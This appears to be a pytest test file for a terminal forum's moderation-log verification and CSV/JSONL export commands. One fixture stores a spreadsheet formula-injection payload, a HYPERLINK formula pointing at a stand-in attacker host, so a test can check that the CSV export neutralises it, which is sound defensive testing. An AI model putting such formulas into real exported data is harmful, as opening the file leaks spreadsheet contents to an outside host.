"""What moderators and operators write out of the forum with a command."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import sqlite3
from pathlib import Path

import pytest

from tests.scenes import garden_scene
from tests.terminal import Terminal
from tui_forum.bootstrap import open_forum
from tui_forum.config import Settings
from tui_forum.domain.moderation import DecisionKind, Ruling
from tui_forum.i18n import using_locale


@pytest.fixture
def run() -> Terminal:
    return Terminal()


@pytest.fixture
def data(sqlite_url: str, tmp_path: Path) -> Path:
    """A forum in which two cases were decided, one with a reason that is a formula."""

    async def decide() -> None:
        forum = await open_forum(Settings(data_dir=tmp_path, database_url=sqlite_url))
        scene = await garden_scene(forum)
        ruling = Ruling.plain(DecisionKind.REMOVE, '=HYPERLINK("http://evil.example/"&A1)')
        await forum.decisions.decide(scene.mod, await scene.case_of(scene.ada), ruling)
        await scene.decide(await scene.case_of(scene.ben), DecisionKind.APPROVE)
        await forum.close()

    asyncio.run(decide())
    return tmp_path


def last_hash(data: Path) -> str:
    with sqlite3.connect(data / "forum.db") as connection:
        return str(connection.execute("SELECT hash FROM moderation_record ORDER BY id DESC").fetchone()[0])


def touch(data: Path) -> None:
    with sqlite3.connect(data / "forum.db") as connection:
        connection.execute("DROP TRIGGER moderation_record_refuses_update")
        connection.execute("UPDATE moderation_record SET reason = 'Never mind' WHERE id = 1")


def test_a_whole_record_is_said_with_its_last_hash(run: Terminal, data: Path) -> None:
    assert run("admin", "verify-log", "--data", data, "--expect", last_hash(data), "--at", "2") == 0
    assert run.said.splitlines() == [
        "The record is whole: 2 entries.",
        "Entry 2 has the hash that was expected.",
        f"Hash of entry 2: {last_hash(data)}",
    ]
    assert run.complained == ""


def test_a_changed_entry_is_one_sentence_and_exit_code_1(run: Terminal, data: Path) -> None:
    touch(data)
    with using_locale("de"):
        assert run("admin", "verify-log", "--data", data) == 1
    assert run.said == ""
    assert run.complained == (
        "Eintrag 1 ist nicht, was als Eintrag 1 geschrieben wurde: Er wurde geändert oder vertauscht.\n"
    )


def test_another_hash_than_the_one_noted_is_exit_code_1(run: Terminal, data: Path) -> None:
    assert run("admin", "verify-log", "--data", data, "--expect", "00ff") == 1
    assert run.complained.count("\n") == 1
    assert run("admin", "verify-log", "--data", data, "--at", "2") == 2


def test_the_record_as_csv_holds_no_formula(run: Terminal, data: Path) -> None:
    assert run("moderation", "record", "--data", data) == 0
    first, second = csv.DictReader(io.StringIO(run.said))
    assert first["reason"] == '\'=HYPERLINK("http://evil.example/"&A1)'
    assert (first["id"], first["action"], first["actor"], first["account"]) == ("1", "remove", "max", "ada")
    assert json.loads(second["after"])["category"] == "spam"
    assert second["hash"] == last_hash(data)


def test_the_record_as_json_lines_by_action_and_day(run: Terminal, data: Path) -> None:
    wanted = ("--format", "jsonl", "--data", str(data))
    assert run("moderation", "record", *wanted, "--action", "approve", "--about", "@Ben") == 0
    [line] = run.said.splitlines()
    assert json.loads(line)["reason"] == "My reason"
    assert run("moderation", "record", *wanted, "--to", "2020-01-01", "--community", "garden") == 0
    assert run.said.splitlines() == [line]


def test_nothing_to_export_is_a_line_of_names(run: Terminal, data: Path) -> None:
    assert run("moderation", "record", "--data", data, "--from", "2999-12-31") == 0
    assert run.said.startswith("id,created_at,action,actor,account,")
    assert run.said.count("\n") == 1


@pytest.mark.parametrize(
    ("arguments", "sentence"),
    [
        (("--actor", "nobody"), "There is no account @nobody."),
        (("--community", "nowhere"), "There is no community “nowhere”."),
        (("--from", "yesterday"), "“yesterday” is no date; write it as year-month-day"),
        (("--format", "xml"), "“xml” is none of csv, jsonl."),
    ],
)
def test_a_wrong_filter_is_one_sentence_and_nothing_is_written(
    run: Terminal, data: Path, arguments: tuple[str, str], sentence: str
) -> None:
    assert run("moderation", "record", "--data", data, *arguments) == 2
    assert sentence in run.complained
    assert run.complained.count("\n") == 1
    assert run.said == ""


def test_the_figures_as_rows(run: Terminal, data: Path) -> None:
    assert run("moderation", "figures", "--data", data, "--weeks", "12", "--format", "jsonl") == 0
    rows = [json.loads(line) for line in run.said.splitlines()]
    assert [row["name"] for row in rows if row["decided"]] == ["", "spam", "Garden"]
    assert (rows[0]["opened_by_week"], rows[0]["undone_share"]) == ([0] * 11 + [2], 0)
    assert run("moderation", "figures", "--data", data, "--weeks", "5") == 2
    assert run.complained == "Figures are of the last 4 / 12 weeks.\n"
